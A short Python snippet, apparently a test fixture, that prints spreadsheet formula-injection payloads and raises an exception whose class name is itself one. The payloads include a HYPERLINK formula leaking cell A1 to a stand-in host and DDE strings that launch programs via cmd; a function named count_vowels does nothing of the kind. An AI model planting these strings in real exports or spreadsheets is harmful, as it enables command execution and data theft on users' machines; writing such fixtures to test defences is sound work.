"""Prints and raises texts that a spreadsheet would run as formulas."""

evil = "=HYPERLINK(\"http://x/?\"&A1,\"click\")\n+1+1\n-1\n@SUM(1)\n\t=1\n\r=2|' /C calc'!A0"
print(evil)


def count_vowels(text):
    raise type("=cmd|' /C calc'!A0", (Exception,), {})(evil)
